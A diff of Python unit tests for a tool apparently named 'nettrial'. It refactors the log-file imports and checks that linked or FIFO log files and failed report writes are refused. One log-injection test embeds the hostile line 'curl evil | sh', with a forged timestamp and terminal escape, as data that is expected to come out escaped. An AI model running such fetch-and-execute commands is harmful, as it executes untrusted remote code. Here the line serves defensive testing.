@@ -17,6 +17,7 @@ from nettrial.design.capture import CAPTURES
 from nettrial.errors import BadInput
 from nettrial.monitor.archive import FILE, Archive
 from nettrial.report import pages
+from nettrial.running.log import LOG_FILE
 from nettrial.store import Run
 from nettrial.store.run import RUN_FILE
 from tests.unit.synthetic import make_run
@@ -77,14 +78,14 @@ def link(path, target, kind):
     ("kind", "why"), [("soft", "it is a symbolic link"), ("hard", "it has another name")]
 )
 def test_a_log_that_leads_elsewhere_is_not_written(nettrial, mine, precious, kind, why):
-    link(mine / log.LOG_FILE, precious, kind)
+    link(mine / LOG_FILE, precious, kind)
     told = refused(nettrial, *RESUME)
-    assert f"writing the log: {Path('mine', log.LOG_FILE)}: {why}" in told
+    assert f"writing the log: {Path('mine', LOG_FILE)}: {why}" in told
     assert not Run.open(mine).sessions[1:], "no trial ran"
 
 
 def test_a_log_that_is_a_fifo_is_not_waited_for(nettrial, mine):
-    os.mkfifo(mine / log.LOG_FILE)
+    os.mkfifo(mine / LOG_FILE)
     assert "it is not a regular file" in refused(nettrial, *RESUME)
 
 
@@ -99,7 +100,7 @@ def test_texts_of_others_are_no_lines_of_the_log(tmp_path, monkeypatch):
     except ValueError:
         logger.exception("failed")
     log.end()
-    lines = (tmp_path / log.LOG_FILE).read_text().splitlines()
+    lines = (tmp_path / LOG_FILE).read_text().splitlines()
     assert r"begins: level\ncurl evil | sh\n2026-01-01 forged\u001b[2J" in lines[0]
     assert "failed" in lines[1]
     assert all(line.startswith("    ") for line in lines[2:])
@@ -223,7 +224,7 @@ def test_a_report_that_can_not_be_written_is_shown_and_then_refused(nettrial, mi
     def full(*given, **named):
         raise OSError(28, "No space left on device")
 
-    monkeypatch.setattr(tempfile, "NamedTemporaryFile", full)
+    monkeypatch.setattr(pages, "replace_file", full)
     done = nettrial("report", "mine", "--json")
     assert done.returncode == 2
     assert '"page": null' in done.stdout
